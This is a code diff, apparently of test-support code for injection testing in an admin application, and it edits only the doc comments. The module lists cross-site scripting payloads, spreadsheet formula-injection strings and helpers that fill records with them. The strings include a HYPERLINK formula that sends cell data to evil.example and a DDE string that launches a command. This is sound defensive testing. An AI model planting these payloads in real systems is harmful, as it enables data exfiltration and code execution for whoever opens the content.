@@ -2,10 +2,10 @@ import { fieldsOf, recordFields, type Field } from '../../src/contract/describe.
 import type { Entity } from '../../src/contract/entity.ts'
 import { sampleOf } from '../support/samples.ts'
 
-/** What all of them have in common: a search for it finds their records, and it is what they would run. */
+/** Part of all payloads: a search finds their records by it, and executed payloads write it. */
 export const mark = 'pwned'
 
-/** Texts that would be markup, code, or a phrase with places to fill in, wherever one is taken for that. */
+/** Texts that are markup, code or message placeholders if they are interpreted. */
 export const markup = [
   `<img src=x onerror="${mark}(1)">`,
   `"><svg onload=${mark}(2)>`,
@@ -17,10 +17,10 @@ export const markup = [
   `@@react-admin@@{"message":"<b onclick=${mark}(8)>"}`,
 ] as const
 
-/** The same as far as a name of a person can be one: most of what is markup cannot stand in it. */
+/** Payloads that are allowed in a person's name, which excludes most markup. */
 export const names = { firstName: `@SUM'${mark}'`, lastName: `-2+3+${mark},calc` } as const
 
-/** Texts that a spreadsheet would reckon with. */
+/** Texts that spreadsheets interpret as formulas. */
 export const formulas = [
   `=HYPERLINK("https://evil.example/?"&A1;"${mark}")`,
   `+${mark}|' /C calc'!A0`,
@@ -32,7 +32,7 @@ export const formulas = [
 
 export const payloads: readonly string[] = [...markup, ...formulas]
 
-/** What a field of this kind is given; nothing where the kind takes no text of one's own. */
+/** The payload as a value of a field; undefined for kinds without free text. */
 function valueOf({ kind, maxLength, items }: Field, payload: string, given: unknown): unknown {
   if (kind === 'text' || kind === 'longText') return payload.slice(0, maxLength)
   if (kind === 'url') return `https://example.com/${payload.replaceAll(/\s/g, '/')}`
@@ -46,17 +46,17 @@ function valueOf({ kind, maxLength, items }: Field, payload: string, given: unkn
   }))
 }
 
-/** Kinds whose values are texts of people's own, all or in part. */
+/** Kinds with free text, at least in part. */
 const open: readonly Field['kind'][] = ['text', 'longText', 'url', 'properties', 'items']
 
-/** The fields of an entity that are given payloads, those of its variants included, as a sample has them. */
+/** The fields of an entity that take payloads, with those of the sample's variants. */
 export const openFields = (entity: Entity): readonly Field[] =>
   recordFields(entity, sampleOf(entity, 'open')).filter(
     ({ kind, readOnly, path, ofPerson }) =>
       open.includes(kind) && !readOnly && ofPerson === undefined && !isSpecial(entity, path),
   )
 
-/** Texts with a form of their own, in which no payload is one. */
+/** Texts with a format that no payload has. */
 const isSpecial = ({ name }: Entity, path: string) =>
   [
     'users.email',
@@ -68,7 +68,7 @@ const isSpecial = ({ name }: Entity, path: string) =>
     'casinos.thirdPartyProviderPublicKey',
   ].includes(`${name}.${path}`)
 
-/** A record that holds a payload in each such field; `at` makes what has to be unique so. */
+/** A record with a payload in each of these fields; `at` makes unique values unique. */
 export function laden(entity: Entity, payload: string, at: string): Record<string, unknown> {
   const record = structuredClone(sampleOf(entity, `${mark}${at}`))
   for (const field of openFields(entity)) {
@@ -82,7 +82,7 @@ export function laden(entity: Entity, payload: string, at: string): Record<strin
   return record
 }
 
-/** A row of what only the server writes, its texts replaced: they come from other systems. */
+/** A row that only the server writes, with payloads as texts, which come from other systems. */
 export function poisoned(
   entity: Entity,
   row: Record<string, unknown>,
